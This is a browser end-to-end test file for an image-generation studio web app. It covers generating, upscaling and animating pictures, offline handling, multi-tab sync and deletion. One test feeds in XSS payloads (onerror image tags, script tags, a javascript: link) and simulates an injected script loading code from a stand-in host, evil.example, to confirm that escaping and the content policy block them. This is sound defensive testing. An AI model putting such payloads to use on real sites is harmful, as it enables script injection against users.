/** The studio from a prompt to what is made of its pictures, in real browsers on the simulator. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { BROWSERS, pageIn } from "../support/browsers.js";
import { freePort } from "../../tools/platform.js";
import { gatewayOnSimulator } from "../support/servers.js";
import { PATIENCE, cuttable, imagine, keepingGateway, noneOf, pictures, said, setOnline, shot, visible, violationsOf } from "../support/studio.js";

for (const name of BROWSERS) {
  test(`${name}: a prompt becomes four images; they are seen large, upscaled, varied, animated, extended, and are there after a reload`, async (t) => {
    const gateway = await keepingGateway({ DURATIONS: { fast: 2, upscale: 1 } });
    const { page, problems } = await pageIn(name, t);
    const violations = await violationsOf(page);
    await page.goto(gateway.url);
    await page.click('input[value="16:9"]');
    await imagine(page, "A majestic ancient castle on a misty mountain peak, golden sunset light");
    assert.match(await said(page, ".card.running .status", "Generating"), /^Generating · \d+ s · about 2 s expected$/);
    await shot(page, `${name}-1-running`);
    const [width] = await pictures(page, 4);
    await shot(page, `${name}-2-four`, { fullPage: true });

    await page.click(".card figure:nth-child(2) .upscale");
    assert.deepEqual(await pictures(page, 5), [2 * width, width, width, width, width], "the upscaled image is larger, and the newest");
    assert.equal(await said(page, ".card .facts", "Upscale"), `Upscale · from picture 2 · ${today()}`);
    assert.equal(await page.$eval(".card:last-child figure:nth-child(2) .upscale", ({ ariaLabel }) => ariaLabel), "Upscale picture 2 again, 3–16 credits");
    await shot(page, `${name}-3-upscaled`, { fullPage: true });

    // Large, by the keyboard: next, back, and out again.
    await page.focus(".card:last-child figure:nth-child(1) .tile");
    await page.keyboard.press("Enter");
    await visible(page, "#viewer img");
    const shown = () => page.$eval("#viewer", ({ ariaLabel }) => ariaLabel);
    assert.equal(await shown(), "Picture 1");
    await page.keyboard.press("ArrowRight");
    assert.equal(await shown(), "Picture 2");
    assert.match(await page.evaluate("location.hash"), /^#task\/[\w-]+\/2$/);
    await page.keyboard.press("ArrowLeft");
    assert.equal(await shown(), "Picture 1");
    assert.equal(await said(page, "#viewer .lineage h3"), "Made from this");
    await page.waitForFunction("document.querySelector('#viewer .picture img').naturalWidth > 0", PATIENCE);
    await shot(page, `${name}-4-viewer`);
    await page.click("#viewer .vary");
    await page.keyboard.press("Escape");
    await pictures(page, 9);
    assert.match(await said(page, ".card .facts", "Variation"), /^Variation · from picture 1/);

    // A video of the first picture: the form is filled and says what it costs, and nothing is sent before a click.
    await page.click(".card:last-child figure:nth-child(1) .animate");
    await page.waitForFunction(() => document.querySelector("[name=taskType]").value === "mj_video", PATIENCE);
    await said(page, "#cost", "15–60 credits");
    assert.equal(await page.$eval("[name=aspectRatio]:checked", ({ value }) => value), "16:9", "in the shape of the picture");
    await page.waitForSelector("#references img", PATIENCE);
    await shot(page, `${name}-5-animate`);
    assert.equal((await page.$$(".card")).length, 3);
    await page.click("#composer [type=submit]");
    await page.waitForFunction(() => document.querySelector(".card video")?.readyState >= 2, PATIENCE);
    await page.click(".card .extendVideo");
    await page.waitForFunction(() => document.querySelectorAll(".card video").length === 2, PATIENCE);
    await shot(page, `${name}-6-videos`, { fullPage: true });

    await page.reload();
    await pictures(page, 9);
    await page.waitForFunction(() => document.querySelectorAll(".card").length === 5, PATIENCE);
    const kinds = await page.$$eval(".card .facts", (all) => all.map(({ textContent }) => textContent.split(" · ")[0]));
    assert.deepEqual(kinds, ["Longer video", "Video from an image", "Variation", "Upscale", "Images from text"]);
    assert.deepEqual(await violations(), []);
    assert.deepEqual(problems, []);
  });

  test(`${name}: a reload in the middle loses nothing, and a network that is gone says so and comes back`, async (t) => {
    const port = await freePort();
    const way = await cuttable(t, port);
    const vars = { MIDAPI_SESSION_ORIGINS: way.url };
    const gateway = await keepingGateway({ DURATIONS: { fast: 6 } }, { vars });
    way.leadTo(gateway.url);
    const { page } = await pageIn(name, t);
    await page.goto(way.url);
    await imagine(page, "a lighthouse");
    await page.waitForSelector(".card.running", PATIENCE);
    await page.reload();
    await page.waitForSelector(".card.running", PATIENCE);
    way.cut();
    await setOnline(page, false);
    assert.match(await said(page, "#banner", "offline"), /^You are offline\. Tasks go on without you/);
    await shot(page, `${name}-offline`);
    await imagine(page, "another");
    assert.equal(await said(page, "#composer-error"), "You are offline. Nothing was sent.");
    assert.equal((await page.$$(".card")).length, 1);
    way.mend();
    await setOnline(page, true);
    await page.waitForSelector("#banner", { hidden: true, ...PATIENCE });
    await pictures(page, 4);
    await page.reload();
    await pictures(page, 4);
  });

  test(`${name}: two tabs on one task see it end by events, with one stream each and no polling, and pictures from the archive`, async (t) => {
    const gateway = await keepingGateway({ DURATIONS: { fast: 4 } });
    const { page, problems } = await pageIn(name, t);
    const requests = [];
    const note = (tab) => tab.on("request", (request) => requests.push(`${request.method()} ${new URL(request.url()).pathname}`));
    note(page);
    await page.goto(gateway.url);
    await imagine(page, "a lighthouse, seen from two windows");
    await said(page, ".card.running .status");
    const second = await page.browser().newPage();
    note(second);
    await second.goto(gateway.url);
    await second.waitForSelector(".card.running", PATIENCE);
    for (const tab of [page, second]) {
      // A tab in the back paints nothing, so nobody can tell what it shows.
      await tab.bringToFront();
      await pictures(tab, 4);
      await tab.waitForFunction("[...document.querySelectorAll('.card img')].every(({ src }) => src.startsWith(location.origin + '/files/'))", PATIENCE);
      await pictures(tab, 4);
    }
    await shot(second, `${name}-7-archive`);
    const count = (wanted) => requests.filter((request) => request === wanted).length;
    assert.deepEqual([count("GET /api/v1/mj/events"), count("GET /api/v1/mj/record-info")], [2, 0], requests.join("\n"));
    assert.deepEqual(problems, []);
    // After a reload they come from there at once.
    await page.bringToFront();
    requests.length = 0;
    await page.reload();
    await pictures(page, 4);
    const sources = await page.$$eval(".card img", (images) => images.map(({ src }) => new URL(src).pathname));
    assert.ok(sources.length === 4 && sources.every((path) => path.startsWith("/files/")), sources.join());
    assert.equal(requests.filter((request) => request.startsWith("GET /m/")).length, 0);
  });

  test(`row 40: ${name} shows markup in prompts, errors and links as text, and its policy holds`, async (t) => {
    const gateway = await gatewayOnSimulator({}, { pages: true });
    const { page, problems } = await pageIn(name, t);
    const violations = await violationsOf(page);
    await page.goto(gateway.url);
    const markup = "<img src=x onerror=globalThis.ran=1><script>globalThis.ran=1</script>";
    // Not at once: so soon after this one the next would be taken for a double click.
    await imagine(page, `${markup} [sim: seconds=1, fail, message=The <b>prompt</b> was ${markup} flagged]`);
    await page.waitForSelector(".card.failed", PATIENCE);
    assert.ok((await said(page, ".card.failed .error")).startsWith("The <b>prompt</b> was <img"));
    assert.ok((await said(page, ".card h2")).startsWith(markup));
    await noneOf(page, ".card b, .card script, .card img");
    await page.select("[name=taskType]", "mj_img2img");
    await visible(page, "#reference-link");
    await page.type("#reference-link", `javascript:alert(1)//${markup}`);
    await page.keyboard.press("Enter");
    await page.waitForSelector("#references .link", PATIENCE);
    await noneOf(page, "#references img, #references script");
    await shot(page, `${name}-8-failed`);
    await page.evaluate("location.hash = 'task/<b>/<script>'");
    await said(page, "#toasts", "There is no such task.");
    assert.deepEqual(await violations(), [], "none in use");
    assert.deepEqual(problems.filter((problem) => !/\b(400|404|422)\b/.test(problem)), []);

    // What an injected script would try.
    const blocked = await page.evaluate(async () => {
      const tries = [
        () => (document.body.innerHTML += "<b>x</b>"),
        () => document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/a.js" })),
        () => (document.createElement("div").innerHTML = "<p>"),
      ];
      let thrown = 0;
      for (const attempt of tries) {
        try {
          attempt();
        } catch {
          thrown++;
        }
      }
      const loads = await fetch("https://evil.example/").then(() => true, () => false);
      const image = await new Promise((done) => {
        const made = new Image();
        made.onload = () => done(true);
        made.onerror = () => done(false);
        made.src = "https://evil.example/a.png";
      });
      return { thrown, loads, image, ran: globalThis.ran };
    });
    assert.deepEqual([blocked.loads, blocked.image, blocked.ran], [false, false, undefined]);
    assert.ok((await violations()).length >= 3, JSON.stringify([blocked, await violations()]));
  });
}

test("what was made in one tab is in the other without a reload, and what is deleted in one is gone in both", async (t) => {
  const gateway = await gatewayOnSimulator({}, { pages: true });
  const { page } = await pageIn("chromium", t);
  const other = await page.browser().newPage();
  for (const tab of [page, other]) await tab.goto(gateway.url);
  for (const [number, tab] of [page, other].entries()) {
    await tab.bringToFront();
    await visible(tab, number === 0 ? "#ideas" : ".card");
    await imagine(tab, `a lighthouse ${number}`);
    await pictures(tab, 4 * (number + 1));
  }
  await page.bringToFront();
  await pictures(page, 8);
  await page.click(".card:first-child .remove");
  await visible(page, "#question");
  await page.click("#question [value=yes]");
  await pictures(page, 4);
  await other.bringToFront();
  await pictures(other, 4);
  await other.reload();
  await pictures(other, 4);
});

test("a running task is deleted only if one insists", async (t) => {
  const gateway = await gatewayOnSimulator({ DURATIONS: { fast: 60 } }, { pages: true });
  const { page } = await pageIn("chromium", t);
  await page.goto(gateway.url);
  await imagine(page, "a lighthouse");
  await page.waitForSelector(".card.running .remove", PATIENCE);
  await page.click(".card .remove");
  assert.match(await said(page, "#question-text"), /^Delete this task, for good\? What is still running is paid for/);
  await page.keyboard.press("Escape");
  assert.equal((await page.$$(".card")).length, 1);
  await page.click(".card .remove");
  await page.click("#question [value=yes]");
  await page.waitForFunction(() => document.querySelectorAll(".card").length === 0, PATIENCE);
  await visible(page, "#ideas");
});

const today = () => new Date().toLocaleDateString("en", { year: "numeric", month: "short", day: "numeric" });
